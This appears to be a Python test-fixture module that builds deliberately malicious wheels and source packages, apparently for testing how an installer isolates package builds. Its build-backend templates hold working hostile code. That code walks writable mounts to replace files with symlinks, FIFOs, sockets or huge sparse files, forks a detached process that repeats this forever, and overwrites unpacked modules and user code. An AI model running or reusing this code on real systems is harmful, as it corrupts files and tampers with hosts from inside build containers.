"""Packages whose code attacks the host from the container in which it is built or installed."""

import base64
import hashlib
import io
import tarfile
import zipfile
from pathlib import Path

FOLDERS = """\
import os, socket, subprocess, sys
VICTIM = {victim!r}
NAMES = (
    "lumicontainer.json", "pylock.toml", "wanted.txt", "constraints.txt", "bin", "x.so", "lock",
    "evil-1.0-py3-none-any.whl", "evil-1.0.dist-info", "METADATA", "RECORD", "tree", "built",
)
HIDDEN = ("/proc", "/sys", "/dev")

def folders():
    for line in open("/proc/self/mountinfo"):
        top = line.split()[4]
        if top != "/" and not top.startswith(HIDDEN):
            for folder, names, _ in os.walk(top):
                if os.access(folder, os.W_OK):
                    yield folder

def replace(path, kind):
    for remove in (os.unlink, os.rmdir, lambda path: os.rename(path, path + ".gone")):
        try:
            remove(path)
            break
        except OSError:
            pass
    kind(path)

def link(path):
    os.symlink(VICTIM + "/file", path)

def folder_link(path):
    os.symlink(VICTIM, path)

def fifo(path):
    os.mkfifo(path)

def sock(path):
    os.chdir(os.path.dirname(path))
    socket.socket(socket.AF_UNIX).bind(os.path.basename(path))

def huge(path):
    with open(path, "wb") as file:
        file.truncate(1 << 40)

def everywhere(kind):
    for folder in list(folders()):
        for name in NAMES:
            try:
                replace(os.path.join(folder, name), kind)
            except OSError:
                pass
"""
"""Python that replaces every file of ours, in every folder that it may write."""

LATER = """\
if os.fork() == 0:
    os.setsid()
    null = os.open(os.devnull, os.O_RDWR)
    for number in range(3):
        os.dup2(null, number)
    while True:
        everywhere(link)
"""
"""Do it for ever, in a process that has left its session."""

POISON = """\
for top in list(folders()):
    for name in os.listdir(top):
        path = os.path.join(top, name)
        if name == "good.py" and os.path.isfile(path):
            os.chmod(path, 0o644)
            open(path, "w").write("ANSWER = 'poisoned'\\n")
"""
"""Change a wheel's module where it is unpacked."""

CHANGE = """\
for folder in list(folders()):
    if "code_backend.py" in os.listdir(folder):
        open(os.path.join(folder, "code_backend.py"), "a").write("# changed")
"""
"""Change code of the user."""

BACKEND = """\
import base64, os, sys, zipfile
{attack}
def write(folder):
    name = "evil-1.0-py3-none-any.whl"
    if not os.path.lexists(os.path.join(folder, name)):
        with zipfile.ZipFile(os.path.join(folder, name), "w") as file:
            for each, text in {files!r}.items():
                file.writestr(each, text)
    return name

def build_wheel(folder, settings=None, metadata=None):
    {before}
    name = write(folder)
    {after}
    return name

def prepare_metadata_for_build_wheel(folder, settings=None):
    notes = os.path.join(folder, "evil-1.0.dist-info")
    os.makedirs(notes)
    with open(os.path.join(notes, "METADATA"), "w") as file:
        file.write("Metadata-Version: 2.1\\nName: evil\\nVersion: 1.0\\n")
    with open(os.path.join(notes, "WHEEL"), "w") as file:
        file.write("Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
    {before}
    {after}
    return "evil-1.0.dist-info"
"""
PROJECT = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'


def write_wheel(folder: Path, name: str, files: dict[str, str]) -> Path:
    """Write a wheel of version 1.0 with the given files."""
    path = folder / f"{name}-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as wheel:
        for each, text in wheel_files(name, files).items():
            wheel.writestr(each, text)
    return path


def wheel_files(name: str, files: dict[str, str]) -> dict[str, str]:
    """Return the files of a wheel of version 1.0, with its notes and its list."""
    notes = f"{name}-1.0.dist-info"
    content = {
        **files,
        f"{notes}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{notes}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    rows = [f"{each},sha256={_digest(text)},{len(text)}\n" for each, text in content.items()]
    return {**content, f"{notes}/RECORD": "".join([*rows, f"{notes}/RECORD,,\n"])}


def _digest(text: str) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).decode().rstrip("=")


def write_source(folder: Path, attack: str, *, before: str = "pass", after: str = "pass") -> Path:
    """Write a source whose backend runs ``attack`` when it is read, and more when it builds."""
    files = wheel_files("evil", {"evil.py": ""})
    backend = BACKEND.format(attack=attack, files=files, before=before, after=after)
    path = folder / "evil-1.0.tar.gz"
    about = "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n"
    with tarfile.open(path, "w:gz") as file:
        for name, text in {
            "pyproject.toml": PROJECT,
            "backend.py": backend,
            "PKG-INFO": about,
        }.items():
            entry = tarfile.TarInfo(f"evil-1.0/{name}")
            entry.size = len(text.encode())
            file.addfile(entry, io.BytesIO(text.encode()))
    return path
